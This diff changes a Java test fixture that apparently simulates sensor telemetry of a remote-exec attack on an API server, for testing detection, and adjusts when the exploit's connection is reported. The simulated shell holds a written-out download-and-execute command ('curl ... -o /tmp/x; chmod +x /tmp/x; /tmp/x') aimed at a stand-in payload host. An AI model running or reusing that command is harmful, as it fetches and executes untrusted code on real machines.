@@ -121,13 +121,13 @@ public final class ShopCluster {
     }
 
     /**
-     * The remote-exec chain, as sensors report it: the shell's exec arrives before the connection's report
-     * (flows are reported at close), and the shell reuses the pid of an earlier api process.
+     * The remote-exec chain, as sensors report it: the exploit's connection is reported when it closes, after
+     * the shell and curl it led to; the shell reuses the pid of an earlier api process.
      */
     public Proc remoteExec(long atMs) {
         Proc shell = script.execWithPid(api, apiServer, atMs + 500, migratePid, "/bin/sh", "-c",
                 "curl -s http://" + PAYLOAD_HOST + "/x -o /tmp/x; chmod +x /tmp/x; /tmp/x");
-        script.call(frontendApp, apiServer, 8080, atMs);
+        script.longCall(frontendApp, apiServer, 8080, atMs, atMs + 900);
         Proc curl = script.exec(api, shell, atMs + 600, "/usr/bin/curl", "-s", "http://" + PAYLOAD_HOST + "/x");
         script.outbound(curl, PAYLOAD_HOST, 80, atMs + 700, FlowEnd.CLOSED, 300);
         script.exit(curl, atMs + 800);
